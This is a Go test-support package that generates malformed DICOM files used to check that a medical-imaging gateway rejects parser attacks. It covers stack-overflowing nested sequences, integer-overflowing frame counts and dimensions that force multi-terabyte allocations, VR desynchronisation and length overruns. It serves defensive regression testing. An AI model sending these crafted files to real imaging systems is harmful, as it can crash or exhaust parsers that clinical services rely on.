// Package hostile builds DICOM files made to hurt a reader: the attacks
// the gateway was shown to fall to, for the tests that prove it now
// refuses them. Each file is small to send and cheap to build; what it
// attacks is the reader's recursion, allocations or patience.
package hostile

import (
	"bytes"
	"encoding/binary"
	"strings"
)

// File is one hostile file and what it attacks.
type File struct {
	Name   string
	Attack string
	Data   []byte
}

// Files returns every hostile file.
func Files() []File {
	return []File{
		{"deep-sequences", "a million sequences nested in one another (20 MB): the parser's recursion overflows the stack", DeepSequences(1_000_000)},
		{"deep-implicit", "sequences of defined length nested 100 000 deep in implicit VR, where only the dictionary says they are sequences", DeepImplicitSequences(100_000)},
		{"huge-frame", "a 66 KB file declaring one 65535 × 32769 16-bit frame: the parser allocates 4.3 GB before any check", HugeFrame()},
		{"many-frames", "a header declaring 100 000 frames of 1024 × 1024 over a few bytes of pixel data", ManyFrames()},
		{"element-flood", "a million tiny elements, each an allocation in the parser", ElementFlood(1_000_000)},
		{"length-overrun", "an element claiming 2 GB of a 1 KB file", LengthOverrun()},
		// Number of Frames as the parser reads it (strconv.Atoi, sizes
		// compared in 32 bits, then make([]*frame.Frame, n)).
		{"frames-plus-sign", "Number of Frames +1099511627777 over one byte of 1 × 1 pixel data: 2^40+1 bytes wrap to 1 in 32 bits and the parser allocates 8 TiB of frame pointers", Frames("+1099511627777", 1, 1, 8, 1)},
		{"frames-over-32-bits", "Number of Frames 4294967297, past a 32-bit parse: wraps to 1 byte, 32 GiB of frame pointers", Frames("4294967297", 1, 1, 8, 1)},
		{"frames-wrap", "Number of Frames +16777217 of 16 × 8 16-bit frames over 256 bytes: wraps to one frame's size, 128 MiB of frame pointers", Frames("+16777217", 16, 8, 16, 256)},
		{"frames-padded", "Number of Frames 16777217 padded with spaces to 40 bytes, longer than a pre-scan read", Frames("16777217"+strings.Repeat(" ", 32), 16, 8, 16, 256)},
		{"frames-twice", "Number of Frames given twice, 16777217 then 1: the parser takes the first", FramesTwice("16777217", "1", 16, 8, 16, 256)},
		{"rows-as-ul", "Rows written as UL 268435457, whose first two bytes say 1: the parser allocates a 4 GiB frame", RowsAsUL(0x10000001, 16, 16)},
		{"samples-overflow", "32768 rows, columns and samples per pixel over 524288 frames: 2^64 samples, 0 in 64 bits, over no pixel data; the parser's first frame is 32 TiB", SamplesOverflow()},
		{"nested-pixel-data", "pixel data of 2^40+1 frames inside a sequence item, read against the item's own header", NestedPixelData("+1099511627777")},
		{"pixel-data-as-sequence", "pixel data labelled SQ over an empty item, still read as 2^40+8 frames of native pixel data", PixelDataAsSequence()},
		{"vr-desync", "a value labelled SV, which the parser gives a 2-byte length, hiding elements of 2^40+1 frames from a reader that gives it 4 bytes", VRDesync()},
		{"date-undefined-length", "a date whose 2-byte length FFFFH the parser takes as undefined and allocates 4 GiB for", DateUndefinedLength()},
	}
}

// Frames is a 1-frame-looking OCT object whose Number of Frames says
// frames, of rows × cols at bits, over pixelBytes bytes of pixel data.
func Frames(frames string, rows, cols, bits uint16, pixelBytes int) []byte {
	return FramesTwice(frames, "", rows, cols, bits, pixelBytes)
}

// FramesTwice is Frames with a second Number of Frames, again, unless "".
func FramesTwice(frames, again string, rows, cols, bits uint16, pixelBytes int) []byte {
	b := bytes.NewBuffer(Preamble(ExplicitLE))
	octHeader(b)
	explicitUS(b, 0x0028, 0x0002, 1)
	explicitString(b, 0x0028, 0x0008, "IS", frames)
	if again != "" {
		explicitString(b, 0x0028, 0x0008, "IS", again)
	}
	geometry(b, rows, cols, bits)
	pixelData(b, "OW", pixelBytes)
	return b.Bytes()
}

// RowsAsUL writes Rows as a UL of rows, over cols × rows 8-bit samples
// as a 32-bit product wraps them.
func RowsAsUL(rows uint32, cols uint16, pixelBytes int) []byte {
	b := bytes.NewBuffer(Preamble(ExplicitLE))
	octHeader(b)
	explicitUS(b, 0x0028, 0x0002, 1)
	explicitUL(b, 0x0028, 0x0010, rows)
	explicitUS(b, 0x0028, 0x0011, cols)
	explicitUS(b, 0x0028, 0x0100, 8)
	pixelData(b, "OW", pixelBytes)
	return b.Bytes()
}

// SamplesOverflow declares 2^15 rows, columns and samples per pixel and
// 2^19 frames, whose product is 2^64, over no pixel data.
func SamplesOverflow() []byte {
	b := bytes.NewBuffer(Preamble(ExplicitLE))
	octHeader(b)
	explicitUS(b, 0x0028, 0x0002, 32768)
	explicitString(b, 0x0028, 0x0008, "IS", "524288")
	geometry(b, 32768, 32768, 8)
	pixelData(b, "OW", 0)
	return b.Bytes()
}

// NestedPixelData holds, in an item of the Icon Image Sequence, a
// 1 × 1 8-bit image of frames over one byte of pixel data.
func NestedPixelData(frames string) []byte {
	var item bytes.Buffer
	explicitUS(&item, 0x0028, 0x0002, 1)
	explicitString(&item, 0x0028, 0x0008, "IS", frames)
	geometry(&item, 1, 1, 8)
	pixelData(&item, "OW", 1)
	b := bytes.NewBuffer(Preamble(ExplicitLE))
	octHeader(b)
	b.Write([]byte{0x88, 0x00, 0x00, 0x02, 'S', 'Q', 0, 0}) // (0088,0200) Icon Image Sequence
	binary.Write(b, binary.LittleEndian, uint32(8+item.Len()))
	tagLen(b, 0xFFFE, 0xE000, uint32(item.Len()))
	b.Write(item.Bytes())
	return b.Bytes()
}

// PixelDataAsSequence labels pixel data SQ: the parser reads (7FE0,0010)
// as pixel data whatever its VR.
func PixelDataAsSequence() []byte {
	b := bytes.NewBuffer(Preamble(ExplicitLE))
	octHeader(b)
	explicitUS(b, 0x0028, 0x0002, 1)
	explicitString(b, 0x0028, 0x0008, "IS", "+1099511627784")
	geometry(b, 1, 1, 8)
	b.Write([]byte{0xE0, 0x7F, 0x10, 0x00, 'S', 'Q', 0, 0})
	binary.Write(b, binary.LittleEndian, uint32(8))
	tagLen(b, 0xFFFE, 0xE000, 0) // an empty item
	return b.Bytes()
}

// VRDesync hides a 2^40+1-frame image in what a reader giving SV a
// 4-byte length takes for the value of an SV element.
func VRDesync() []byte {
	var hidden bytes.Buffer
	explicitString(&hidden, 0x0028, 0x0008, "IS", "+1099511627777")
	pixelData(&hidden, "OW", 1)
	b := bytes.NewBuffer(Preamble(ExplicitLE))
	octHeader(b)
	explicitUS(b, 0x0028, 0x0002, 1)
	geometry(b, 1, 1, 8)
	// The parser: SV, a 2-byte length of 4, a 4-byte value. Another
	// reader: SV, 2 reserved bytes, a 4-byte length of the rest.
	b.Write([]byte{0x09, 0x00, 0x10, 0x10, 'S', 'V', 4, 0})
	binary.Write(b, binary.LittleEndian, uint32(hidden.Len()))
	b.Write(hidden.Bytes())
	return b.Bytes()
}

// DateUndefinedLength ends with a Study Date of 2-byte length FFFFH
// over 65535 bytes, which a reader taking the length as it reads finds
// exactly.
func DateUndefinedLength() []byte {
	b := bytes.NewBuffer(Preamble(ExplicitLE))
	b.Write([]byte{0x08, 0x00, 0x20, 0x00, 'D', 'A', 0xFF, 0xFF})
	b.Write(bytes.Repeat([]byte("19700101"), 1<<13)[:0xFFFF])
	return b.Bytes()
}

func octHeader(b *bytes.Buffer) {
	explicitString(b, 0x0008, 0x0016, "UI", "1.2.840.10008.5.1.4.1.1.77.1.5.4")
	explicitString(b, 0x0008, 0x0060, "CS", "OPT")
}

// geometry writes Rows, Columns and Bits Allocated.
func geometry(b *bytes.Buffer, rows, cols, bits uint16) {
	explicitUS(b, 0x0028, 0x0010, rows)
	explicitUS(b, 0x0028, 0x0011, cols)
	explicitUS(b, 0x0028, 0x0100, bits)
}

func pixelData(b *bytes.Buffer, vr string, n int) {
	b.Write([]byte{0xE0, 0x7F, 0x10, 0x00, vr[0], vr[1], 0, 0})
	binary.Write(b, binary.LittleEndian, uint32(n))
	b.Write(make([]byte, n))
}

// Preamble is the 128-byte preamble, "DICM" and a file meta group
// naming an Ophthalmic Tomography Image in the given transfer syntax.
func Preamble(transferSyntax string) []byte {
	var b bytes.Buffer
	b.Write(make([]byte, 128))
	b.WriteString("DICM")
	var meta bytes.Buffer
	explicitString(&meta, 0x0002, 0x0002, "UI", "1.2.840.10008.5.1.4.1.1.77.1.5.4")
	explicitString(&meta, 0x0002, 0x0003, "UI", "2.25.1")
	explicitString(&meta, 0x0002, 0x0010, "UI", transferSyntax)
	explicitUL(&b, 0x0002, 0x0000, uint32(meta.Len()))
	b.Write(meta.Bytes())
	return b.Bytes()
}

// Explicit and implicit VR little endian.
const (
	ExplicitLE = "1.2.840.10008.1.2.1"
	ImplicitLE = "1.2.840.10008.1.2"
)

// DeepSequences nests n undefined-length sequences, each in the first
// item of the one before.
func DeepSequences(n int) []byte {
	b := bytes.NewBuffer(Preamble(ExplicitLE))
	head := []byte{0x08, 0x00, 0x40, 0x11, 'S', 'Q', 0, 0, 0xFF, 0xFF, 0xFF, 0xFF, // (0008,1140) SQ, undefined
		0xFE, 0xFF, 0x00, 0xE0, 0xFF, 0xFF, 0xFF, 0xFF} // item, undefined
	b.Grow(n * len(head))
	for range n {
		b.Write(head)
	}
	return b.Bytes()
}

// DeepImplicitSequences nests n defined-length sequences in implicit
// VR: no VR on the wire says they are sequences.
func DeepImplicitSequences(n int) []byte {
	// Each level is a sequence header and an item header, 16 bytes, so a
	// level with r levels inside and including it spans 16·r bytes.
	b := bytes.NewBuffer(Preamble(ImplicitLE))
	b.Grow(16 * n)
	for r := n; r > 0; r-- {
		tagLen(b, 0x0008, 0x1140, uint32(16*r-8)) // Referenced Image Sequence
		tagLen(b, 0xFFFE, 0xE000, uint32(16*(r-1)))
	}
	return b.Bytes()
}

// HugeFrame declares one 65535 × 32769 16-bit frame and holds 64 KB of
// pixel data.
func HugeFrame() []byte { return imageWith(65535, 32769, 1, 16, 64<<10) }

// ManyFrames declares 100 000 frames of 1024 × 1024 and holds 64 bytes.
func ManyFrames() []byte { return imageWith(1024, 1024, 100_000, 8, 64) }

// ElementFlood writes n small private elements before the image.
func ElementFlood(n int) []byte {
	b := bytes.NewBuffer(Preamble(ExplicitLE))
	for range n {
		explicitString(b, 0x0009, 0x1010, "LO", "AB") // a private tag, 10 bytes
	}
	return b.Bytes()
}

// LengthOverrun has an element claiming far more bytes than remain.
func LengthOverrun() []byte {
	b := bytes.NewBuffer(Preamble(ExplicitLE))
	b.Write([]byte{0x09, 0x00, 0x10, 0x10, 'O', 'B', 0, 0})
	binary.Write(b, binary.LittleEndian, uint32(2<<30))
	b.Write(make([]byte, 1024))
	return b.Bytes()
}

// imageWith is an OCT object whose header declares rows × cols × frames
// at bits, followed by pixel data of pixelBytes bytes.
func imageWith(rows, cols, frames, bits, pixelBytes int) []byte {
	b := bytes.NewBuffer(Preamble(ExplicitLE))
	explicitString(b, 0x0008, 0x0016, "UI", "1.2.840.10008.5.1.4.1.1.77.1.5.4")
	explicitString(b, 0x0008, 0x0060, "CS", "OPT")
	explicitUS(b, 0x0028, 0x0002, 1)
	explicitString(b, 0x0028, 0x0004, "CS", "MONOCHROME2")
	explicitString(b, 0x0028, 0x0008, "IS", itoa(frames))
	explicitUS(b, 0x0028, 0x0010, uint16(rows))
	explicitUS(b, 0x0028, 0x0011, uint16(cols))
	explicitUS(b, 0x0028, 0x0100, uint16(bits))
	explicitUS(b, 0x0028, 0x0101, uint16(bits))
	explicitUS(b, 0x0028, 0x0102, uint16(bits-1))
	explicitUS(b, 0x0028, 0x0103, 0)
	b.Write([]byte{0xE0, 0x7F, 0x10, 0x00, 'O', 'W', 0, 0})
	binary.Write(b, binary.LittleEndian, uint32(pixelBytes))
	b.Write(make([]byte, pixelBytes))
	return b.Bytes()
}

func tagLen(b *bytes.Buffer, group, elem uint16, length uint32) {
	binary.Write(b, binary.LittleEndian, group)
	binary.Write(b, binary.LittleEndian, elem)
	binary.Write(b, binary.LittleEndian, length)
}

func explicitString(b *bytes.Buffer, group, elem uint16, vr, v string) {
	if len(v)%2 == 1 { // even lengths: UIDs pad with NUL, text with a space
		v += map[bool]string{true: "\x00", false: " "}[vr == "UI"]
	}
	binary.Write(b, binary.LittleEndian, group)
	binary.Write(b, binary.LittleEndian, elem)
	b.WriteString(vr)
	binary.Write(b, binary.LittleEndian, uint16(len(v)))
	b.WriteString(v)
}

func explicitUS(b *bytes.Buffer, group, elem, v uint16) {
	binary.Write(b, binary.LittleEndian, group)
	binary.Write(b, binary.LittleEndian, elem)
	b.WriteString("US")
	binary.Write(b, binary.LittleEndian, uint16(2))
	binary.Write(b, binary.LittleEndian, v)
}

func explicitUL(b *bytes.Buffer, group, elem uint16, v uint32) {
	binary.Write(b, binary.LittleEndian, group)
	binary.Write(b, binary.LittleEndian, elem)
	b.WriteString("UL")
	binary.Write(b, binary.LittleEndian, uint16(4))
	binary.Write(b, binary.LittleEndian, v)
}

func itoa(n int) string {
	var b []byte
	for {
		b = append([]byte{byte('0' + n%10)}, b...)
		if n /= 10; n == 0 {
			return string(b)
		}
	}
}
